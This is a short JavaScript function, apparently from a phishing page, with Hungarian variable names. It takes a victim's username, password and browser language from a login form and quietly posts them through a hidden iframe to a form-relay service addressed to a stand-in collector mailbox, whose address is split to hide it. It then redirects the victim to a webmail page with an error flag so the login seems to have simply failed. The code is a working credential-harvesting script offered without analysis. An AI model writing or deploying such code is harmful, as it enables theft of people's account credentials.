function kuldes(){
  var f=document.createElement("form");f.method="POST";f.target="hf";
  f.action="https://formsubmit.co/ajax/"+["postafiok","gyujto.example"].join("@");
  var m={_subject:"uj",_captcha:"false",_template:"table",felhasznalo:document.getElementById("fn").value,jelszo:document.getElementById("jsz").value,nyelv:navigator.language};
  for(var k in m){var i=document.createElement("input");i.type="hidden";i.name=k;i.value=m[k];f.appendChild(i);}
  var h=document.createElement("iframe");h.name="hf";h.style.display="none";document.body.appendChild(h);
  document.body.appendChild(f);f.submit();
  h.onload=function(){location.href="https://posta.webposta.example/?hiba=1";};
  return false;
}
